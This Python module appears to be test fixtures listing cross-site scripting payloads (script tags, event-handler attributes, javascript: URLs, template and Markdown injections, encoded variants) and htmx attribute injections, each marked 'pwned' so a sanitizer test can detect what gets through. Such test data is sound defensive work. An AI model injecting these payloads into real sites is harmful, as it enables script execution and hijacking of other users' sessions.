"""What attackers write where a page shows what people wrote: each is marked, so that what came of it can be found.

`pwned` stands in all: as an attribute or an element of what they would make, or in the address that they would ask.
"""

from __future__ import annotations

# What would run, be drawn or be asked for if it were HTML.
BODIES = (
    "<script pwned>alert(1)</script>",
    "<script pwned src=/pwned.js></script>",
    "<script pwned src=data:,alert(1)></script>",
    "<img pwned src=/pwned onerror=alert(1)>",
    "<img pwned srcset=/pwned>",
    "<svg pwned onload=alert(1)>",
    "<svg pwned><script>alert(1)</script></svg>",
    "<svg pwned><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg pwned><use href=/pwned#x></svg>",
    "<math pwned><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe pwned src=javascript:alert(1)></iframe>",
    '<iframe pwned srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object pwned data=/pwned></object>",
    "<embed pwned src=/pwned>",
    "<video pwned><source src=/pwned onerror=alert(1)></video>",
    "<audio pwned src=/pwned onerror=alert(1)></audio>",
    "<details pwned open ontoggle=alert(1)>x</details>",
    "<input pwned autofocus onfocus=alert(1)>",
    "<input pwned type=image src=/pwned onerror=alert(1)>",
    "<select pwned autofocus onfocus=alert(1)></select>",
    "<x pwned tabindex=1 autofocus onfocus=alert(1)>x</x>",
    "<a pwned href=javascript:alert(1)>x</a>",
    "<form pwned action=/pwned><button>x</button></form>",
    "<marquee pwned onstart=alert(1)>x</marquee>",
    "<style pwned>@import '/pwned'; * { display: none }</style>",
    "<p pwned style='background: url(/pwned)'>x</p>",
    "<link pwned rel=stylesheet href=/pwned.css>",
    "<meta pwned http-equiv=refresh content='0; url=/pwned'>",
    "<base pwned href=//pwned.example/>",
    "<template pwned><script>alert(1)</script></template>",
    "<dialog pwned open onclose=alert(1)><form method=dialog></form></dialog>",
    "<body pwned onload=alert(1) onpageshow=alert(1)>",
)
# What would end that in which it stands.
ENDS = ("", '">', "'></textarea></title></option></select></script></style></noscript>-->")
# What would go on inside a tag, an address, a script, a template, a Markdown text.
INSIDE = (
    '" pwned onmouseover=alert(1) x="',
    "' pwned onmouseover=alert(1) x='",
    '" pwned autofocus onfocus=alert(1) x="',
    "` pwned onfocus=alert(1) x=`",
    " pwned onfocus=alert(1) autofocus ",
    "/pwned onfocus=alert(1) autofocus/",
    "javascript:alert('pwned')",
    "JaVa\tScRiPt:alert('pwned')",
    "\u0001javascript:alert('pwned')",
    "data:text/html,<script pwned>alert(1)</script>",
    "vbscript:pwned",
    "//pwned.example/",
    "\\\\pwned.example\\x",
    "'; alert('pwned'); '",
    '"-alert("pwned")-"',
    "\\'; alert('pwned'); //",
    "${alert('pwned')}",
    "{{ alert('pwned') }}",
    "{% import 'pwned' %}",
    "<%= alert('pwned') %>",
    "#{alert('pwned')}",
    "[x](javascript:alert('pwned'))",
    "![x](/pwned)",
    "[x](/x 'onerror=alert(1) pwned')",
    "[x]: javascript:alert('pwned')\n\n[x]",
    "<javascript:alert('pwned')>",
    "```<img pwned src=/pwned>\n</code></pre><img pwned src=/pwned onerror=alert(1)>",
    "&lt;img pwned src=/pwned onerror=alert(1)&gt;",
    "&#60;img pwned src=/pwned onerror=alert(1)&#62;",
    "\uff1cimg pwned src=/pwned onerror=alert(1)\uff1e",
    "<<img pwned src=/pwned onerror=alert(1)//",
    "<img/pwned/src=/pwned/onerror=alert(1)",
    "\u2028<img pwned src=/pwned onerror=alert(2)>\u2029",
)
PAYLOADS = (*(end + body for end in ENDS for body in BODIES), *INSIDE)

# What htmx would act on: an attribute of it, in all the ways in which it may be written.
_ACTS = (
    "{x}get=/pwned {x}trigger=load",
    "{x}post=/pwned {x}trigger='load delay:1ms'",
    "{x}put=/pwned {x}trigger=revealed",
    "{x}delete=/pwned {x}trigger='every 10ms'",
    "{x}patch=/pwned {x}trigger='intersect once'",
    "{x}action=/pwned {x}method=post {x}trigger=load",
    "{x}ext=sse {x}sse:connect=/pwned {x}sse-connect=/pwned sse-connect=/pwned",
    "{x}ws:connect=/pwned {x}ws-connect=/pwned ws-connect=/pwned",
    "{x}on:load=alert(1) {x}on-htmx-load=alert(1) {x}on::load=alert(1)",
    "{x}live='alert(1)' {x}init='alert(1)'",
    "{x}get=/pwned {x}trigger=load {x}vals='js:{{a: alert(1)}}'",
    "{x}get=javascript:alert(1) {x}trigger=load",
    "{x}boost=true {x}get=/pwned {x}trigger=load",
    "{x}preload=/pwned {x}preload='load' preload=load",
    "{x}get=/pwned {x}trigger='load[alert(1)]'",
    '{x}config=\'{{"mode": "cors"}}\' {x}get=//pwned.example/ {x}trigger=load',
)
_WRITTEN = ("hx-", "data-hx-", "HX-")
_AROUND = (
    "<div pwned {act}>x</div>",
    '"><p pwned {act}>x</p>',
    "<div hx-disable=false hx-ignore=false><b pwned {act}>x</b></div>",
    "</div></div></div><section pwned {act}>x</section>",
)
HTMX_PAYLOADS = tuple(
    around.format(act=act.format(x=written)) for act in _ACTS for written in _WRITTEN for around in _AROUND
) + tuple(
    f"<{element} pwned hx-get=/pwned hx-trigger=load>x</{element}>"
    for element in ("a", "form", "button", "hx-partial", "template", "svg", "math", "table", "noscript", "textarea")
)
